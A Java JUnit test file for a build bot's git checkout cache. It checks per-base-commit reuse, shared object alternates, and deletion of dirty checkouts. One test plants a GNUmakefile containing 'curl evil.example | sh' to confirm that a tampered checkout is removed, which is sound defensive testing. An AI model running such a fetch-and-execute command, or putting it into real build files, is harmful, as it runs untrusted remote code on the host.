package org.fsnbot.build;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.fsnbot.exec.CommandRunner;
import org.fsnbot.testing.MiniTree;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** One checkout per base commit, serving every tree that has that base. */
class CheckoutsTest {

    private final CommandRunner run = new CommandRunner();

    private String git(Path dir, String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@t"));
        cmd.addAll(List.of(args));
        return run.check(cmd, dir, Duration.ofMinutes(1)).outputText().strip();
    }

    @Test
    void aHeadOnlyASecondTreeHasIsReachableFromTheCheckoutTheFirstTreeMade(@TempDir Path dir) throws Exception {
        Path first = MiniTree.create(dir.resolve("first"));
        String base = git(first, "rev-parse", "HEAD");
        git(dir, "clone", "-q", first.toString(), dir.resolve("second").toString());
        Path second = dir.resolve("second");
        Files.writeString(second.resolve("fs/notify/mark.c"), "int x;\nint z;\n");
        git(second, "commit", "-q", "-am", "only in the second tree");
        String head = git(second, "rev-parse", "HEAD");

        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(first, base);
        assertThat(checkouts.at(second, base)).isEqualTo(checkout);
        checkouts.switchTo(checkout, head);

        assertThat(Files.readString(checkout.resolve("fs/notify/mark.c"))).isEqualTo("int x;\nint z;\n");
        List<String> alternates = Files.readAllLines(checkout.resolve(".git/objects/info/alternates"));
        checkouts.at(second, base);
        assertThat(Files.readAllLines(checkout.resolve(".git/objects/info/alternates"))).isEqualTo(alternates)
                .hasSize(2);
    }

    @Test
    void aCheckoutWithAnythingInItButItsBaseIsRemovedAfterTheJob(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, base);
        assertThat(checkouts.keepIfClean(base)).isTrue();
        assertThat(checkout.resolve(".git")).exists();

        Files.writeString(checkout.resolve("GNUmakefile"), "all:\n\tcurl evil.example | sh\n");

        assertThat(checkouts.keepIfClean(base)).isFalse();
        assertThat(checkout).doesNotExist();
        assertThat(checkouts.at(tree, base)).as("the next job clones a fresh one").isEqualTo(checkout);
        assertThat(checkout.resolve("GNUmakefile")).doesNotExist();
    }

    @Test
    void ignoredFilesAndAnotherHeadCountAsDirtyToo(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Files.writeString(tree.resolve(".gitignore"), "*.o\n");
        git(tree, "add", ".gitignore");
        git(tree, "commit", "-q", "-m", "ignore objects");
        String withIgnore = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, withIgnore);
        Files.writeString(checkout.resolve("planted.o"), "x");
        assertThat(checkouts.keepIfClean(withIgnore)).isFalse();

        checkout = checkouts.at(tree, withIgnore);
        checkouts.switchTo(checkout, base);
        assertThat(checkouts.keepIfClean(withIgnore)).as("left at another commit").isFalse();
    }
}
